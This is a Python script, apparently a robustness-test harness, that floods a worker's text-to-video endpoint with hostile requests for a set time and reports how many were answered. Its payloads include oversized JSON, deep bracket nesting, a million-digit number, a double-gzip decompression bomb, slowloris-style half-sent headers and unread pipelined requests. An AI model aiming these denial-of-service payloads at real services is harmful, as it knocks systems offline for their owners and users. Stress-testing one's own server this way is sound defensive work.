"""Callers who mean harm, in a process of their own.

Run as ``python -m hostile_parts.attack KIND HOST PORT SECONDS CALLERS``; prints a line when it
begins, and one with how many requests were answered.
"""

import asyncio
import contextlib
import gzip
import json
import sys
import time
from collections.abc import Callable

from roundtrip_parts.worker import KEY

PATH = "/fal-ai/fast-animatediff/text-to-video"
MOST = 2**20
"""The worker takes bodies up to a mebibyte."""


def post(body: bytes, *headers: str) -> bytes:
    """A whole submission."""
    head = [f"POST {PATH} HTTP/1.1", "Host: 127.0.0.1", f"Authorization: Key {KEY}", *headers]
    return ("\r\n".join([*head, f"Content-Length: {len(body)}"]) + "\r\n\r\n").encode() + body


def filled(begin: str, item: str, end: str) -> bytes:
    """JSON just below the bound, of one item again and again."""
    count = (MOST - len(begin) - len(end)) // len(item) - 1
    return (begin + item * count + item.rstrip(",") + end).encode()


GET = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
REQUESTS: dict[str, Callable[[], bytes]] = {
    "a list of 520,000 wrong values": lambda: post(
        filled('{"prompt": "x", "motions": [', "1,", "]}")
    ),
    "60,000 unknown fields": lambda: post(
        ('{"prompt": "x"' + "".join(f', "{n:x}": 1' for n in range(60_000)) + "}").encode()
    ),
    "a million open brackets": lambda: post(b"[" * (MOST - 1)),
    "a number of a million digits": lambda: post(b'{"seed": ' + b"9" * (MOST - 20) + b"}"),
    "a packed body": lambda: post(gzip.compress(b" " * 2**26), "Content-Encoding: gzip, gzip"),
    "1,100 half-sent heads": lambda: GET[:-4],
    "1,000 pipelined requests, unread": lambda: GET * 1000,
}


async def caller(kind: str, request: bytes, host: str, port: int, until: float) -> int:
    """Attack until that time; how many answers came."""
    answered = 0
    while time.monotonic() < until:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(request)
            if "half" in kind or "unread" in kind:
                await asyncio.sleep(max(0.0, min(0.5, until - time.monotonic())))
            else:
                await reader.readuntil(b"\r\n")
                answered += 1
            writer.transport.abort()
    return answered


async def main(kind: str, host: str, port: str, seconds: str, callers: str) -> None:
    """Attack, and print what came of it."""
    request = REQUESTS[kind]()
    many = 1100 if "1,100" in kind else int(callers)
    print(json.dumps({"begun": True}), flush=True)
    until = time.monotonic() + float(seconds)
    answers = await asyncio.gather(
        *(caller(kind, request, host, int(port), until) for _ in range(many))
    )
    print(json.dumps({"answered": sum(answers)}), flush=True)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
